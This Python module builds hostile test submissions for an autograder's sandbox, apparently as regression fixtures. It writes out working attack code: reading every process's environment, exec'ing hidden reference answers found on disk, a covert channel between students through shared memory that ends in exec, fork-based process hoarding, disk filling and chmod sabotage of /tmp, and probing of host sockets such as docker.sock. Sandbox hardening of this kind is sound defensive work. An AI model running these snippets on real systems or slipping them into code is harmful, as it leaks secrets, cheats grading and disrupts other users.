"""Hostile students of the synthetic class that attack the grading jail itself (issue 12).

Each kind is a variant of the reference answers (see ``generate.py``) with an attack in
front. Each prints one ``JAIL-ATTACK <kind>: ...`` line into its notebook (so the feedback
shows what the attack got) and scores exactly what its honest content earns:

* ``other_checkout`` looks for another copy of the course anywhere it can see and, if it
  finds one, copies the reference ``is_stray`` out of it; its own ``is_stray`` is wrong
  (never a stray), so finding the copy would raise it from 9 to 18;
* ``env_secrets`` prints the whole environment and every ``/proc/*/environ`` it can read;
* ``runtime_sabotage`` attacks its kernel's socket folder (chmod, rename, delete, fill):
  before the fix every student graded after it scored 0;
* ``process_hoarder`` holds about 240 processes for 25 s: a student of another batch graded
  at the same time under the same uid could not start the harness's writers;
* ``ipc_planter`` leaves its ``is_stray`` in a SysV shared-memory segment and a message
  queue; ``ipc_reader`` (graded after it) has a wrong ``is_stray`` and executes whatever it
  finds there, so a channel between students would raise it from 9 to 18;
* ``host_reach`` connects to every UNIX socket it can find (and the usual paths of host
  services) and writes into ``/run/lock``.
"""

from __future__ import annotations

Answers = dict[str, str]

SHM_KEY = 0x5E55_A001
MSG_KEY = 0x5E55_A002
HOLD_S = 25  # how long the hoarder holds its processes

WRONG_IS_STRAY = "    def is_stray(path, fixed_name, baseline):\n        return False\n"

OTHER_CHECKOUT = """import os

_found = []
_skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc"}
for _folder, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.join(_folder, d) not in _skip]
    for _name in _files:
        if _name.endswith(".ipynb"):
            try:
                with open(os.path.join(_folder, _name)) as _handle:
                    _text = _handle.read()
            except OSError:
                continue
            if "BEGIN HIDDEN TESTS" in _text and "def is_stray" in _text:
                _found.append(_text)
print(f"JAIL-ATTACK other_checkout: found {len(_found)} course copies")
if _found:
    import json as _json

    for _cell in _json.loads(_found[0])["cells"]:
        if "def is_stray" in "".join(_cell["source"]):
            exec("".join(_cell["source"]))
else:
"""

ENV_SECRETS = """import json
import os

_seen = dict(os.environ)
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            with open(f"/proc/{_pid}/environ", "rb") as _handle:
                _seen[f"/proc/{_pid}/environ"] = _handle.read().decode(errors="replace")
        except OSError:
            pass
print("JAIL-ATTACK env_secrets:", json.dumps(_seen, sort_keys=True))

"""

RUNTIME_SABOTAGE = """import os

_results = []
for _name, _attack in (
    ("chmod", lambda: os.chmod("/tmp/.ipc", 0)),
    ("rename", lambda: os.rename("/tmp/.ipc", "/tmp/.ipc-gone")),
    ("chmod /tmp", lambda: os.chmod("/tmp", 0)),
):
    try:
        _attack()
        _results.append(f"{_name} done")
    except OSError as _error:
        _results.append(f"{_name} refused ({_error.errno})")
_written = 0
try:  # the socket folder's file system, full
    while True:
        with open(f"/tmp/.ipc/fill-{_written}", "wb") as _handle:
            _handle.write(b"x" * (1 << 20))
        _written += 1
except OSError:
    pass
_results.append(f"filled {_written} MiB")
for _index in range(_written + 1):  # room again for this notebook's own harness
    try:
        os.remove(f"/tmp/.ipc/fill-{_index}")
    except OSError:
        pass
print("JAIL-ATTACK runtime_sabotage:", ", ".join(_results))

"""

PROCESS_HOARDER = f"""import os
import signal
import time

_held = []
try:
    while len(_held) < 240:
        _pid = os.fork()
        if _pid == 0:
            time.sleep(600)
            os._exit(0)
        _held.append(_pid)
except OSError:
    pass
print(f"JAIL-ATTACK process_hoarder: holding {{len(_held)}} processes for {HOLD_S} s", flush=True)
time.sleep({HOLD_S})
for _pid in _held:
    os.kill(_pid, signal.SIGKILL)
    os.waitpid(_pid, 0)

"""

_SYSV = f"""import ctypes

_libc = ctypes.CDLL("libc.so.6", use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_SHM_KEY, _MSG_KEY, _IPC_CREAT, _IPC_NOWAIT = {SHM_KEY:#x}, {MSG_KEY:#x}, 0o1000, 0o4000
"""

IPC_PLANTER = (
    _SYSV
    + """
_payload = {source}.encode()
_shm = _libc.shmget(_SHM_KEY, 1 << 16, _IPC_CREAT | 0o666)
if _shm >= 0:
    _address = _libc.shmat(_shm, None, 0)
    ctypes.memmove(_address, len(_payload).to_bytes(4, "little") + _payload, 4 + len(_payload))
_queue = _libc.msgget(_MSG_KEY, _IPC_CREAT | 0o666)
_message = (1).to_bytes(8, "little") + _payload
_sent = _libc.msgsnd(_queue, _message, len(_payload), _IPC_NOWAIT) if _queue >= 0 else -1
print(f"JAIL-ATTACK ipc_planter: segment {_shm}, queue {_queue}, sent {_sent}")

"""
)

IPC_READER = (
    _SYSV
    + """
_received = ""
_queue = _libc.msgget(_MSG_KEY, 0)
if _queue >= 0:
    _buffer = ctypes.create_string_buffer(8 + 8192)
    _size = _libc.msgrcv(_queue, _buffer, 8192, 0, _IPC_NOWAIT)
    if _size > 0:
        _received = _buffer.raw[8 : 8 + _size].decode()
_shm = _libc.shmget(_SHM_KEY, 0, 0)
if not _received and _shm >= 0:
    _address = _libc.shmat(_shm, None, 0)
    _length = int.from_bytes(ctypes.string_at(_address, 4), "little")
    _received = ctypes.string_at(_address + 4, _length).decode()
print(f"JAIL-ATTACK ipc_reader: queue {_queue}, segment {_shm}, received {len(_received)} bytes")
if _received:
    exec(_received)
else:
"""
)

HOST_REACH = """import os
import socket
import stat

_sockets = [
    "/run/docker.sock", "/var/run/docker.sock", "/run/redis/redis-server.sock",
    "/run/postgresql/.s.PGSQL.5432", "/var/run/postgresql/.s.PGSQL.5432",
    "/run/mysqld/mysqld.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0",
]
for _folder, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.join(_folder, d) not in ("/proc", "/sys", "/usr")]
    for _name in _files:
        _path = os.path.join(_folder, _name)
        try:
            if stat.S_ISSOCK(os.lstat(_path).st_mode):
                _sockets.append(_path)
        except OSError:
            pass
_reached = []
for _path in [p for p in _sockets if not p.startswith("/tmp/.ipc/")]:  # not its own kernel's
    _client = socket.socket(socket.AF_UNIX)
    _client.settimeout(1)
    try:
        _client.connect(_path)
        _reached.append(_path)
    except OSError:
        pass
    finally:
        _client.close()
_wrote = []
for _folder in ("/run/lock", "/var/lock", "/run"):
    try:
        with open(os.path.join(_folder, "jail-attack"), "w") as _handle:
            _handle.write("x")
        _wrote.append(_folder)
    except OSError:
        pass
print(f"JAIL-ATTACK host_reach: host sockets reached {_reached}, wrote {_wrote}")

"""


def other_checkout(a: Answers) -> Answers:
    return {**a, "is_stray": OTHER_CHECKOUT + WRONG_IS_STRAY}


def env_secrets(a: Answers) -> Answers:
    return {**a, "is_stray": ENV_SECRETS + a["is_stray"]}


def runtime_sabotage(a: Answers) -> Answers:
    return {**a, "is_stray": RUNTIME_SABOTAGE + a["is_stray"]}


def process_hoarder(a: Answers) -> Answers:
    return {**a, "is_stray": PROCESS_HOARDER + a["is_stray"]}


def ipc_planter(a: Answers) -> Answers:
    planted = IPC_PLANTER.replace("{source}", repr(a["is_stray"]))
    return {**a, "is_stray": planted + a["is_stray"]}


def ipc_reader(a: Answers) -> Answers:
    return {**a, "is_stray": IPC_READER + WRONG_IS_STRAY}


def host_reach(a: Answers) -> Answers:
    return {**a, "is_stray": HOST_REACH + a["is_stray"]}


A = "03-monitor"
# (file as the LMS names it, kind, student id): graded in student-id order, so the hoarder
# starts first, the saboteur's kernel dies before the others start, the planter precedes
# the reader.
STUDENTS = [
    (f"aaberg_ola_1031_5031_{A}.ipynb", process_hoarder, "aaberg-ola-1031"),
    (f"abbas_nur_1032_5032_{A}.ipynb", runtime_sabotage, "abbas-nur-1032"),
    (f"acosta_ian_1033_5033_{A}.ipynb", ipc_planter, "acosta-ian-1033"),
    (f"adams_kit_1034_5034_{A}.ipynb", other_checkout, "adams-kit-1034"),
    (f"aguilar_pia_1035_5035_{A}.ipynb", env_secrets, "aguilar-pia-1035"),
    (f"ahn_joon_1036_5036_{A}.ipynb", host_reach, "ahn-joon-1036"),
    (f"akers_liv_1037_5037_{A}.ipynb", ipc_reader, "akers-liv-1037"),
]
